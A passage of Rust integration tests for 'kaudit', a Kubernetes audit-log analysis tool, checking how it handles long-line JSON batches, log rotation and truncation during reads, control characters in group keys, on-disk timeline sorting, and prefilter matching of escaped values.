            b.lines().nth(i).unwrap_or("")
        ),
        None => format!("lengths {} and {}", a.len(), b.len()),
    }
}

/// A webhook batch written on one line, the same as a pretty-printed document, and the same
/// events as JSON lines: the same requests, however the input is read (mapped, read, stdin,
/// gzip, any thread count and chunk size), with the batch's records cut as they are read when
/// the line is long (`--long-line`, 32 MiB by default, lowered here) so no more than a batch
/// of them is held. (Memory on a 650 MB batch: scripts/bench.sh --hostile.)
#[test]
fn a_batch_on_one_long_line_or_a_document_is_read_record_by_record() {
    let dir = tmp();
    let evs: Vec<Value> = (0..400)
        .flat_map(|i| stages_of(i).map(|l| serde_json::from_str::<Value>(&l).unwrap()))
        .collect();
    let lines: String = evs.iter().map(|e| e.to_string() + "\n").collect();
    let list =
        json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": evs});
    let one = format!("{list}\n");
    let pretty = format!("{}\n", serde_json::to_string_pretty(&list).unwrap());
    // the rows, without where they were read
    let rows = |r: Run| -> Vec<Value> {
        crate::util::without_location(
            r.expect_code(0)
                .stdout_str()
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect(),
        )
    };
    let want = rows(go(&[
        "events",
        "-o",
        "ndjson",
        &put(dir.path(), "lines.log", &lines),
    ]));
    assert_eq!(want.len(), 400);
    for (name, text) in [("one.json", &one), ("pretty.json", &pretty)] {
        for long in ["--long-line=1000", "--long-line=100000000"] {
            for r in every_path(
                dir.path(),
                name,
                text.as_bytes(),
                &["events", "-o", "ndjson", long],
            ) {
                assert_eq!(rows(r), want, "{name} {long}");
            }
            let d = doc(
                &go(&["summary", "-o", "json", long, &put(dir.path(), name, text)]).expect_code(0),
            );
            adds_up(&d);
            assert_eq!(
                (n(&d, "records"), n(&d, "events"), n(&d, "requests")),
                (800, 800, 400),
                "{d}"
            );
        }
    }
    // cut short: the records before the cut are read, the one cut is an unfinished record
    let cut = &one[..one.len() / 2];
    let d = doc(&go(&[
        "summary",
        "-o",
        "json",
        "--long-line=1000",
        &put(dir.path(), "cut.json", cut),
    ])
    .expect_code(0));
    adds_up(&d);
    assert!(
        n(&d, "events") > 300 && n(&d, "skippedUnterminated") == 1,
        "{d}"
    );
    // text after the line's value, and a bracket that closes nothing, are malformed records
    // (the same for any input path: a line is long by its length alone)
    let bad = format!("{}x\n}}\n{}\n", one.trim_end(), event(9_999));
    let args = ["summary", "-o", "json", "--long-line=1000"];
    for r in every_path(dir.path(), "bad.json", bad.as_bytes(), &args) {
        let r = r.expect_code(0);
        let d = doc(&r);
        adds_up(&d);
        assert_eq!((n(&d, "events"), n(&d, "malformed")), (801, 2), "{d}");
        assert!(
            r.stderr.contains("text after the line's JSON value"),
            "{}",
            r.stderr
        );
    }
}

// ---------------------------------------------------------------- a set that changes while read

/// A rename rotation while kaudit reads an earlier file of the set: the API server renames
/// audit.log to a timestamped backup and writes a new audit.log. What is read is the set as
/// listed when kaudit started: the live file's requests from its handle (the file it was, now
/// under its new name), not the new one-line file. Where a file could not be held open (the
/// open-file limit: `ulimit -n 32` here), it is opened at its turn and, being another file
/// now, reported by name (exit 2) instead of read silently. Regression (review of issue 16):
/// the new audit.log was read as `audit.log`, the live file's requests were gone, exit 0.
///
/// The rotation happens at a set point of the read, not after a sleep: the first input is a
/// FIFO that kaudit opens at its turn, after listing the folder, and reads until the test
/// closes it, after rotating.
#[cfg(unix)]
#[test]
fn a_rename_rotation_during_the_scan_reads_the_set_as_listed() {
    let dir = tmp();
    let gate = dir.path().join("gate.log");
    let c = std::ffi::CString::new(gate.to_str().unwrap()).unwrap();
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let aud = dir.path().join("aud");
    let live_user = |i: u64| {
        event_with(i, |v| {
            v["user"]["username"] = json!("LIVE");
            v["verb"] = json!("delete");
        })
    };
    let live: String = (100..200).map(|i| live_user(i) + "\n").collect();
    let new_user = event_with(500, |v| v["user"]["username"] = json!("NEW")) + "\n";
    for held in [true, false] {
        let _ = fs::remove_dir_all(&aud);
        fs::create_dir(&aud).unwrap();
        put(&aud, "audit-2026-11-21T10-00-00.000.log", events(0..50));
        put(&aud, "audit.log", &live);
        let args = [
            "summary",
            "-o",
            "json",
            "-j",
            "1",
            gate.to_str().unwrap(),
            aud.to_str().unwrap(),
        ];
        let child = if held {
            kaudit_std(&args).spawn().unwrap()
        } else {
            // no descriptor to spare for holding files: each is opened at its turn
            let mut cmd = std::process::Command::new("/bin/sh");
            cmd.env_clear()
                .current_dir(crate::util::root())
                .arg("-c")
                .arg("ulimit -n 32 && exec \"$0\" \"$@\"")
                .arg(env!("CARGO_BIN_EXE_kaudit"))
                .args(args)
                .stdin(std::process::Stdio::null())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped());
            cmd.spawn().unwrap()
        };
        // kaudit has listed the folder and opened the gate: rotate, then let it go on
        let mut w = fifo_writer(&gate);
        fs::rename(
            aud.join("audit.log"),
            aud.join("audit-2026-11-21T11-00-00.000.log"),
        )
        .unwrap();
        put(&aud, "audit.log", &new_user);
        w.write_all(events(1000..1001).as_bytes()).unwrap();
        drop(w);
        let r = wait_output(child, HANG);
        let d = doc(&r);
        adds_up(&d);
        let users: Vec<(String, u64)> = d["topUsers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|u| (u["name"].as_str().unwrap().to_owned(), n(u, "count")))
            .collect();
        assert!(
            !users.iter().any(|(u, _)| u == "NEW"),
            "a file written after the listing was read: {users:?}\n{}",
            r.stderr
        );
        let live_file = &d["files"][2];
        assert!(
            live_file["name"]
                .as_str()
                .unwrap()
                .ends_with("aud/audit.log"),
            "{live_file}"
        );
        if held {
            let r = r.expect_code(0);
            assert_eq!(r.stderr, "");
            assert!(users.contains(&("LIVE".to_owned(), 100)), "{users:?}");
            assert_eq!(n(live_file, "lines"), 100, "{live_file}");
            assert_eq!(n(live_file, "bytes"), live.len() as u64, "{live_file}");
        } else {
            let r = r.expect_code(2);
            let name = aud.join("audit.log");
            let want = format!(
                "kaudit: error: {}: not the file listed when kaudit started (replaced since: renamed by a log rotation?); not read\n",
                name.display()
            );
            assert_eq!(r.stderr, want);
            assert!(
                live_file["error"]
                    .as_str()
                    .unwrap()
                    .contains("not the file listed")
            );
            assert_eq!(n(live_file, "lines"), 0, "{live_file}");
            // the files before it were read
            assert_eq!(n(&d, "events"), 51, "{d}");
        }
    }
}

// ---------------------------------------------------------------- documents cut short

/// A JSON document cut short (a webhook dump or `jq .` output still being written, a copy cut
/// off) is read up to its last whole record, and the cut is said: a record cut in the middle
/// is one unfinished record, and a batch left open after a whole record (the cut fell between
/// records, or before the closing `]`/`}`) is noted. The same on every input path: mapped,
/// read, gzip, stdin, any thread count or chunk size. Regression (review of issue 16): a
/// document cut between its records was read as if whole, with no word.
#[test]
fn a_document_cut_short_is_read_to_its_last_whole_record_and_says_so() {
    let dir = tmp();
    let items: Vec<String> = (0..40).map(event).collect();
    let array = format!("[\n{}\n]\n", items.join(",\n"));
    let list = format!(
        "{{\"kind\":\"EventList\",\"apiVersion\":\"audit.k8s.io/v1\",\"items\":[\n{}\n]}}\n",
        items.join(",\n")
    );
    // (the document, cut where, whole records before the cut, a record cut in the middle)
    let at_item = |d: &str, k: usize| d.find(&items[k]).unwrap();
    let cases = [
        (&array, at_item(&array, 30), 30, false),
        (&array, array.rfind(']').unwrap(), 40, false),
        (&array, at_item(&array, 30) + 100, 30, true),
        (&list, at_item(&list, 12) - 2, 12, false),
        (&list, list.rfind('}').unwrap(), 40, false),
        (&list, at_item(&list, 12) + 100, 12, true),
    ];
    for (i, &(d, cut, whole, partial)) in cases.iter().enumerate() {
        let name = format!("cut{i}.json");
        let runs = every_path(
            dir.path(),
            &name,
            &d.as_bytes()[..cut],
            &["summary", "-o", "json"],
        );
        let first = doc(&runs[0]);
        for r in &runs {
            let r = r.clone().expect_code(0);
            let got = doc(&r);
            adds_up(&got);
            assert_eq!(n(&got, "events"), whole, "case {i}: {}", r.stderr);
            assert_eq!(
                n(&got, "skippedUnterminated"),
                u64::from(partial),
                "case {i}"
            );
            assert_eq!(got["topUsers"], first["topUsers"], "case {i}");
            let said = if partial {
                ": skipped unfinished last line (file still being written)\n"
            } else {
                ":1: JSON batch not closed: the input ends after its last whole record (cut short, or still being written)\n"
            };
            assert!(
                r.stderr.starts_with("kaudit: note: ") && r.stderr.ends_with(said),
                "case {i}: {}",
                r.stderr
            );
            assert_eq!(r.stderr.lines().count(), 1, "case {i}: {}", r.stderr);
        }
    }
}

/// A document truncated while kaudit reads it (copytruncate), mapped or read with --no-mmap,
/// is reported as a file cut short (exit 2, the records read before the cut named), and its
/// last bytes read are not taken for a record still being written. The cut lands at a point of
/// kaudit's reading (its read count, kaudit stopped while the file is cut), not after a time.
/// Regression (review of issue 16): read with --no-mmap, the cut was an "unfinished last line"
/// and exit 0; mapped, the error said "lines after 0".
#[cfg(target_os = "linux")]
#[test]
fn a_document_truncated_while_read_is_reported_on_every_read_path() {
    let dir = tmp();
    let (data, total) = &big_log();
    let mut d = b"[\n".to_vec();
    for (k, line) in data
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .enumerate()
    {
        if k > 0 {
            d.extend_from_slice(b",\n");
        }
        d.extend_from_slice(line);
    }
    d.extend_from_slice(b"\n]\n");
    let f = dir.path().join("dump.json");
    let path = f.to_str().unwrap();
    let mut cut_seen = [0, 0];
    // Up to eight rounds a read path, until two cuts land during the read: a read ahead of
    // the parse may reach the end between the read count seen and the stop (it read the whole
    // file in one step of the watch in about one run of six on an idle machine), and then no
    // cut lands. Every cut that does is checked.
    let rounds = [(10, false), (10, true), (30, false), (30, true)]
        .into_iter()
        .chain(
            [20, 40, 15, 25, 50, 35]
                .into_iter()
                .flat_map(|p| [(p, false), (p, true)]),
        );
    for (pct, no_mmap) in rounds {
        if cut_seen[usize::from(no_mmap)] >= 2 {
            continue;
        }
        fs::write(&f, &d).unwrap();
        let mut args = vec!["summary", "-o", "json", "--chunk-size", "100000", path];
        if no_mmap {
            args.push("--no-mmap");
        }
        let child = kaudit_std(&args).spawn().unwrap();
        let want = d.len() as u64 * pct / 100;
        stop_after_reading(&child, want);
        let r = cut_and_resume(child, &f, 0, false);
        let got = doc(&r);
        adds_up(&got);
        match r.code {
            0 | 1 => assert!(!r.stderr.contains("error"), "{}", r.stderr),
            2 => {
                cut_seen[usize::from(no_mmap)] += 1;
                let want = format!(
                    "kaudit: error: {path}: shrank from {} to 0 bytes while being read (copytruncate rotation?); records after {} not read\n",
                    d.len(),
                    n(&got, "records")
                );
                assert_eq!(r.stderr, want, "--no-mmap {no_mmap}");
                // whole records only: nothing taken for a record still being written
                assert_eq!(n(&got, "records"), n(&got, "events"), "{got}");
                assert!(n(&got, "events") < *total);
            }
            c => panic!("exit {c}: {}", r.stderr),
        }
    }
    assert!(
        cut_seen[0] > 0 && cut_seen[1] > 0,
        "no cut during the read (mapped, read): {cut_seen:?}"
    );
}

/// Group keys hold any value whole: a user name or user agent with the control character
/// kaudit once joined key fields with (U+001F), or with a length-like prefix, is one value of
/// one field, in every grouping command and format, and two values that only differ there
/// stay two groups.
#[test]
fn a_value_with_separator_characters_is_one_group_key_value() {
    let d = tmp();
    let odd = ["a\u{1f}b", "a", "b", "\u{1f}", "\u{4}\u{0}\u{0}\u{0}abcd"];
    let log: String = (0..10u64)
        .map(|i| {
            let u = odd[i as usize % odd.len()];
            event_with(i, |v| {
                v["user"]["username"] = json!(u);
                v["userAgent"] = json!(u);
            }) + "\n"
        })
        .collect();
    let f = put(d.path(), "odd.log", log);
    let mut want: Vec<(String, u64)> = odd.iter().map(|u| (u.to_string(), 2)).collect();
    want.sort();
    for (cmd, field) in [
        (vec!["top", "--by", "user", "--limit", "0"], "user"),
        (
            vec!["top", "--by", "user-agent,verb", "--limit", "0"],
            "userAgent",
        ),
        (vec!["who"], "user"),
        (vec!["where", "--by", "user-agent"], "userAgent"),
    ] {
        let mut args = cmd.clone();
        args.extend(["-o", "json", f.as_str()]);
        let r = go(&args);
        assert_eq!(r.code, 0, "{cmd:?}: {}", r.stderr);
        let rows: Value = serde_json::from_slice(&r.stdout).unwrap();
        let mut got: Vec<(String, u64)> = rows
            .as_array()
            .unwrap()
            .iter()
            .map(|row| {
                (
                    row[field].as_str().unwrap().to_string(),
                    row["requests"].as_u64().unwrap(),
                )
            })
            .collect();
        got.sort();
        assert_eq!(got, want, "{cmd:?}");
        if cmd[0] == "top" && cmd[2].contains(',') {
            assert!(rows.as_array().unwrap().iter().all(|r| r["verb"] == "get"));
        }
    }
    // a table has as many cells per row as columns: the key is not split into two cells
    let r = go(&["top", "--by", "user", "--limit", "0", "-o", "csv", &f]);
    let lines: Vec<&str> = r.stdout_str().lines().collect();
    assert_eq!(lines.len(), 1 + odd.len());
    let fields = |l: &str| {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(l.as_bytes())
            .records()
            .next()
            .unwrap()
            .unwrap()
            .len()
    };
    for l in &lines {
        assert_eq!(fields(l), fields(lines[0]), "{l:?}");
    }
}

/// `timeline` holds its requests to put them in time order; past `--sort-memory` it sorts them
/// in runs on temporary files and merges them (issue 16: memory bounded whatever the number of
/// requests). The answer is the one sorted in memory, in every format and mode, on the real
/// logs and on requests that share a microsecond (their order is by content), for budgets that
/// make one run per request (runs merged level by level) and a few runs.
#[test]
fn timeline_sorted_in_runs_on_disk_is_the_timeline_sorted_in_memory() {
    let dir = tmp();
    // stages shuffled across the file, many requests per microsecond, some without a time
    let mut log = shuffled_stages_log();
    for i in 0..300u64 {
        log.push_str(&event_with(i / 7, |v| {
            v["auditID"] = json!(format!("same-us-{:03}", 299 - i));
            v["objectRef"]["name"] = json!(format!("obj{}", i % 11));
            if i % 50 == 0 {
                v["requestReceivedTimestamp"] = json!("not a time");
                v["stageTimestamp"] = json!("not a time");
            }
        }));
        log.push('\n');
    }
    let f = put(dir.path(), "many.log", &log);
    let real = concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/s5");
    for input in [f.as_str(), real] {
        for cmd in [
            &["timeline"][..],
            &["timeline", "-o", "json"][..],
            &["timeline", "-o", "ndjson", "--collapse", "kind"][..],
            &["timeline", "-o", "csv", "--collapse", "none"][..],
            &["timeline", "-o", "wide", "--context", "1s", "-v", "delete"][..],
            &[
                "timeline",
                "-o",
                "json",
                "--context",
                "200ms",
                "-u",
                "alice",
            ][..],
            &["timeline", "--limit", "7"][..],
        ] {
            let run = |extra: &[&str]| -> Run {
                let mut args: Vec<&str> = cmd.to_vec();
                args.extend(extra);
                args.push(input);
                go(&args)
            };
            let held = run(&[]);
            assert!(held.code <= 1, "{cmd:?}: {}", held.stderr);
            for budget in ["1", "20K"] {
                let spilled = run(&["--sort-memory", budget]);
                assert_eq!(
                    spilled.code, held.code,
                    "{cmd:?} {budget}: {}",
                    spilled.stderr
                );
                assert_eq!(spilled.stderr, held.stderr, "{cmd:?} {budget}");
                assert!(
                    spilled.stdout == held.stdout,
                    "{cmd:?} --sort-memory {budget} on {input}: {} bytes, in memory {}",
                    spilled.stdout.len(),
                    held.stdout.len()
                );
            }
        }
    }
}

/// A temporary folder that cannot be written is an error that says where and what to do,
/// never a partial timeline.
#[test]
fn timeline_that_cannot_sort_on_disk_says_so() {
    let dir = tmp();
    let f = put(dir.path(), "a.log", events(0..200));
    let r = finish(
        kaudit()
            .args(["timeline", "--sort-memory", "1", &f])
            .env("TMPDIR", dir.path().join("no such folder"))
            .output()
            .unwrap(),
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("temporary file") && r.stderr.contains("TMPDIR"),
        "{}",
        r.stderr
    );
    assert!(r.stdout.is_empty());
}

/// The logs' span with a prefilter: a skipped line's time is found far from its end too (a long
/// annotation after it, as a webhook's patch or an authorizer's reason can be; review finding:
/// `-u carol --since` exited 2 saying the logs ended with carol's request, though bob's came
/// later). And an event whose time does not read could lie in any window: no claim then.
#[test]
fn a_time_the_prefilter_cannot_see_makes_no_window_error() {
    let ev = |id: &str, user: &str, t: &str, note: usize| {
        format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{id}","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/a/pods","verb":"list","user":{{"username":"{user}"}},"sourceIPs":["10.0.0.1"],"objectRef":{{"resource":"pods","namespace":"a"}},"responseStatus":{{"code":200}},"requestReceivedTimestamp":"{t}","stageTimestamp":"{t}","annotations":{{"note":"{}"}}}}"#,
            "x".repeat(note)
        ) + "\n"
    };
    let dir = tmp();
    let log = ev("1", "carol", "2026-11-21T10:00:00.000000Z", 10)
        + &ev("2", "bob", "2026-11-21T11:00:00.000000Z", 2000)
        + &ev("3", "bob", "2026-11-21T11:30:00.000000Z", 2000);
    let f = put(dir.path(), "audit.log", log);
    for extra in [&[][..], &["--no-prefilter"][..]] {
        let mut args = vec!["events", "-u", "carol", "--since", "2026-11-21T10:30:00Z"];
        args.extend(extra);
        args.push(&f);
        let r = go(&args).expect_code(1);
        assert_eq!(r.stderr, "", "{args:?}");
    }
    // after the last of them: the pipeline stopped, whatever was skipped
    for extra in [&[][..], &["--no-prefilter"][..]] {
        let mut args = vec!["events", "-u", "carol", "--since", "2026-11-21T12:00:00Z"];
        args.extend(extra);
        args.push(&f);
        let r = go(&args).expect_code(2);
        assert!(
            r.stderr.ends_with(
                "to 2026-11-21 11:30:00.000 UTC, and --since is 2026-11-21 12:00:00.000 UTC, after their end\n"
            ),
            "{args:?}: {}",
            r.stderr
        );
    }
    // an event whose time does not read
    let bad = log_with_bad_time(&ev);
    let g = put(dir.path(), "bad.log", bad);
    go(&["events", "--since", "2027-01-01", &g]).expect_code(1);
}

fn log_with_bad_time(ev: &dyn Fn(&str, &str, &str, usize) -> String) -> String {
    ev("1", "carol", "2026-11-21T10:00:00.000000Z", 10)
        + &ev("2", "bob", "2026-02-30T10:00:00Z", 10)
}

/// A value written with JSON escapes (`\/`, `\"`, `\\`, `\t`, `\u0022`, as a writer may) is the
/// same value: the prefilter, which looks for the bytes of a literal before a line is parsed,
/// reads such a line, so a filter finds it (as with --no-prefilter), and no "no request has"
/// note is given for it.
#[test]
fn values_written_with_escapes_are_found_through_the_prefilter() {
    let dir = tmp();
    for (written, typed) in [
        (r"https:\/\/issuer#sub", "https://issuer#sub"),
        (r#"a\"b"#, "a\"b"),
        (r"a\u0022b", "a\"b"),
        (r"a\\b", "a\\b"),
        (r"a\tb", "a\tb"),
    ] {
        let special = event(5000).replace(
            r#""username":"alice""#,
            &format!(r#""username":"{written}""#),
        );
        assert_ne!(special, event(5000), "the template has alice");
        let log = events(0..5000) + &special + "\n";
        let path = put(dir.path(), "escaped.log", log);
        for how in [&[][..], &["--no-prefilter"]] {
            let mut args = vec!["events", "-o", "ndjson", "-u", typed];
            args.extend(how);
            args.push(&path);
            let r = finish(kaudit_std(&args).output().unwrap());
            assert_eq!(r.code, 0, "{written} {how:?}: {}", r.stderr);
            assert_eq!(r.stdout_str().lines().count(), 1, "{written} {how:?}");
            assert_eq!(r.stderr, "", "{written} {how:?}");
        }
    }
}
